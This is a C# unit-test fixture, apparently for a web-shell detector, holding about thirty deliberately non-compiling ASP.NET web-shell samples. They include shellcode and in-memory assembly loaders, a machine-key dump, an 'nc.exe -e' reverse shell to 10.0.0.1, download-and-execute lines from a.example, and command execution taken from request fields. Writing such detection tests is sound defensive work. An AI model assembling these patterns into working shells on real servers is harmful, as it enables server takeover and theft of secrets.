namespace Hindcast.Tests.Unit.WebShells;

/// <summary>Pages with a trait of web shells each that need no value of the request. None can work: see <see cref="InertPages"/>.</summary>
internal static class UnaskedTraits
{
    /// <summary>{B} stands for the line that does not compile, {LS} and {ZW} for characters that nobody sees, {PE} and {GZ} for the head of a program and a packed one, in base64.</summary>
    internal static readonly (string Name, string Text)[] All =
    [
        ("pe-base64-inline.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            System.Reflection.Assembly.Load(Convert.FromBase64String("{PE}")).CreateInstance("Inert");%>
            """),
        ("pe-gzip.aspx",
            """
            <%@ Page Language="C#" %><script runat="server">
            {B}
            void Page_Load(object s, EventArgs e) { string data = "{GZ}"; var z = new GZipStream(new MemoryStream(Convert.FromBase64String(data)), CompressionMode.Decompress); var m = new MemoryStream(); z.CopyTo(m); Assembly.Load(m.ToArray()).CreateInstance("Inert"); }
            </script>
            """),
        ("pe-numbers.aspx",
            """
            <%@ Page Language="C#" %><script runat="server">
            {B}
            byte[] held = new byte[] { 77, 90, 144, 0, 3, 0, 0, 0, 4, 0, 0, 0, 255, 255, 0, 0, 184, 0, 0, 0, 0, 0, 0, 0, 64, 0, 0, 0 };
            void Page_Load(object s, EventArgs e) { var a = AppDomain.CurrentDomain.Load(held); a.GetType("Inert").GetMethod("Go").Invoke(null, null); }
            </script>
            """),
        ("pe-chars.aspx",
            """
            <%@ Page Language="VB" %><script runat="server">
            {B}
            Dim held() As Byte = {77, 90, 144, 0, 3, 0, 0, 0, 4, 0, 0, 0, 255, 255, 0, 0, 184, 0, 0, 0, 0, 0}
            Sub Page_Load()
            Dim a = System.Reflection.Assembly.Load(held)
            a.CreateInstance("Inert")
            End Sub</script>
            """),
        ("shellcode-delegate.aspx",
            """
            <%@ Page Language="C#" %><%@ Import Namespace="System.Runtime.InteropServices" %><script runat="server">
            {B}
            [DllImport("kernel32")] private static extern IntPtr HeapCreate(uint o, UIntPtr i, UIntPtr m);
            [DllImport("kernel32")] private static extern IntPtr HeapAlloc(IntPtr h, uint f, uint b);
            [DllImport("kernel32")] private static extern bool EnumSystemLocalesA(IntPtr p, uint f);
            void Page_Load(object s, EventArgs e) { byte[] c = Convert.FromBase64String("AAAA"); IntPtr h = HeapCreate(0x40000, UIntPtr.Zero, UIntPtr.Zero); IntPtr p = HeapAlloc(h, 0, 100); Marshal.Copy(c, 0, p, c.Length); EnumSystemLocalesA(p, 0); }
            </script>
            """),
        ("shellcode-alias.aspx",
            """
            <%@ Page Language="C#" %><script runat="server">
            {B}
            [DllImport("kernel32.dll", EntryPoint = "VirtualAlloc")] static extern IntPtr A(IntPtr a, int b, int c, int d);
            [DllImport("kernel32.dll", EntryPoint = "CreateThread")] static extern IntPtr B(IntPtr a, int b, IntPtr c, int d, int e, int f);
            void Page_Load(object s, EventArgs e) { byte[] c = new byte[4]; IntPtr p = A(IntPtr.Zero, 4, 0x1000, 0x40); Marshal.Copy(c, 0, p, 4); B(IntPtr.Zero, 0, p, 0, 0, 0); }
            </script>
            """),
        ("shellcode-vb.aspx",
            """
            <%@ Page Language="VB" %><script runat="server">
            {B}
            Private Declare Function VA Lib "kernel32" Alias "VirtualAlloc" (ByVal a As IntPtr, ByVal b As Integer, ByVal c As Integer, ByVal d As Integer) As IntPtr
            Private Declare Function CT Lib "kernel32" Alias "CreateThread" (ByVal a As IntPtr, ByVal b As Integer, ByVal c As IntPtr) As IntPtr
            Sub Page_Load()
            Dim p As IntPtr = VA(IntPtr.Zero, 4, 4096, 64)
            CT(IntPtr.Zero, 0, p)
            End Sub</script>
            """),
        ("mem-module.aspx",
            """
            <%@ Page Language="C#" %><script runat="server">
            {B}
            public class Inert : IHttpModule { public void Init(HttpApplication a) { a.BeginRequest += Go; } void Go(object s, EventArgs e) { } public void Dispose() { } }
            void Page_Load(object s, EventArgs e) { HttpApplication.RegisterModule(typeof(Inert)); Microsoft.Web.Infrastructure.DynamicModuleHelper.DynamicModuleUtility.RegisterModule(typeof(Inert)); }
            </script>
            """),
        ("machine-key.aspx",
            """
            <%@ Page Language="C#" %><script runat="server">
            {B}
            void Page_Load(object s, EventArgs e) { var a = System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a"); var t = a.GetType("System.Web.Configuration.MachineKeySection"); var g = t.GetMethod("GetApplicationConfig", BindingFlags.Static | BindingFlags.NonPublic); var c = (System.Web.Configuration.MachineKeySection)g.Invoke(null, new object[0]); Response.Write(c.ValidationKey + "|" + c.DecryptionKey); }
            </script>
            """),
        ("fixed-command.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            System.Diagnostics.Process.Start("cmd.exe", "/c whoami > c:\\inetpub\\wwwroot\\o.txt");%>
            """),
        ("fixed-program.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            System.Diagnostics.Process.Start(@"c:\windows\temp\nc.exe", "-e x 10.0.0.1 80");%>
            """),
        ("fixed-download.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            new System.Net.WebClient().DownloadFile("http://a.example/x.exe", @"c:\windows\temp\x.exe"); System.Diagnostics.Process.Start(@"c:\windows\temp\x.exe");%>
            """),
        ("fixed-download-only.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            new System.Net.WebClient().DownloadFile("http://a.example/x.txt", Server.MapPath("~/x.aspx"));%>
            """),
        ("download-load.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            byte[] b = new System.Net.WebClient().DownloadData("http://a.example/x.bin"); System.Reflection.Assembly.Load(b).EntryPoint.Invoke(null, new object[] { null });%>
            """),
        ("config-handler.config",
            """
            <?xml version="1.0"?><configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="web_config" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" resourceType="Unspecified" requireAccess="Write" preCondition="bitness64" /></handlers><security><requestFiltering><fileExtensions><remove fileExtension=".config" /></fileExtensions></requestFiltering></security></system.webServer></configuration>
            """),
        ("url.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            Process.Start(Server.UrlDecode(Request.Url.Query.Substring(1)));%>
            """),
        ("pathinfo.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            Process.Start(Request.PathInfo.Substring(1));%>
            """),
        ("referrer.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            Process.Start(Request.UrlReferrer.ToString());%>
            """),
        ("worker.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            HttpWorkerRequest w = (HttpWorkerRequest)((IServiceProvider)HttpContext.Current).GetService(typeof(HttpWorkerRequest)); byte[] b = w.GetPreloadedEntityBody(); Assembly.Load(b);%>
            """),
        ("dynamic-method.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            var m = typeof(Page).GetMethod("ToString"); RuntimeHelpers.PrepareMethod(m.MethodHandle); IntPtr p = m.MethodHandle.GetFunctionPointer(); for (int i = 0; i < 4; i++) { Marshal.WriteByte(p, i, 0x90); } this.ToString();%>
            """),
        ("websocket.ashx",
            """
            <%@ WebHandler Language="C#" Class="Inert" %>
            {B}
            public class Inert : IHttpHandler { public void ProcessRequest(HttpContext c) { c.AcceptWebSocketRequest(Go); } async Task Go(AspNetWebSocketContext w) { var s = w.WebSocket; var b = new ArraySegment<byte>(new byte[1024]); var r = await s.ReceiveAsync(b, CancellationToken.None); var t = new TcpClient(); t.Connect(Encoding.UTF8.GetString(b.Array, 0, r.Count), 80); await t.GetStream().CopyToAsync(null); } }
            """),
        ("self-write.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            string me = Request.PhysicalPath; string old = File.ReadAllText(me); string t = ""; foreach (char c in "ab cd") { t += (char)(c + 1); } File.WriteAllText(me, t); Page p = (Page)System.Web.Compilation.BuildManager.CreateInstanceFromVirtualPath("~/" + Request.FilePath, typeof(Page)); File.WriteAllText(me, old); p.ProcessRequest(HttpContext.Current);%>
            """),
        ("picture.aspx",
            """
            ÿØÿà<%@ Page Language="C#" %><script runat="server">
            {B}
            void Page_Load(object s, EventArgs e) { Literal1.Text = DateTime.Now.ToString(); }</script>
            """),
        ("load-base64-short.aspx",
            """
            <%@ Page Language="C#" %><%
            {B}
            object o = System.Reflection.Assembly.Load(Convert.FromBase64String("AAAA")).CreateInstance("Inert"); o.ToString();%>
            """),
        ("upload-form.aspx",
            """
            <%@ Page Language="C#" %><form id="f" runat="server"><asp:FileUpload id="up" runat="server" /><asp:Button runat="server" id="b" text="Upload" onclick="Go" /></form><script runat="server">
            {B}
            void Go(object s, EventArgs e) { if (up.HasFile) { string n = Path.GetFileName(up.FileName); up.SaveAs(Server.MapPath("~/x/") + n); } }</script>
            """),
        ("upload-ashx.ashx",
            """
            <%@ WebHandler Language="C#" Class="Inert" %>
            {B}
            public class Inert : IHttpHandler { public void ProcessRequest(HttpContext c) { HttpPostedFile f = c.Request.Files["f"]; f.SaveAs(c.Server.MapPath("~/") + f.FileName); c.Response.Write("ok"); } }
            """),
        ("upload-vb.aspx",
            """
            <%@ Page Language="VB" %><script runat="server">
            {B}
            Sub Go(s As Object, e As EventArgs)
            Dim f As HttpPostedFile = up.PostedFile
            f.SaveAs(Server.MapPath(".") & "\" & f.FileName)
            End Sub</script><form runat="server" enctype="multipart/form-data"><input type="file" id="up" runat="server"/><asp:Button runat="server" OnClick="Go"/></form>
            """),
        ("event-arg.aspx",
            """
            <%@ Page Language="C#" %><script runat="server">
            {B}
            void Go(object s, CommandEventArgs e) { Process.Start((string)e.CommandArgument); }</script>
            """),
        ("route-data.cshtml",
            """
            @{ {B} var c = UrlData[0]; System.Diagnostics.Process.Start(c); }
            """),
    ];
}
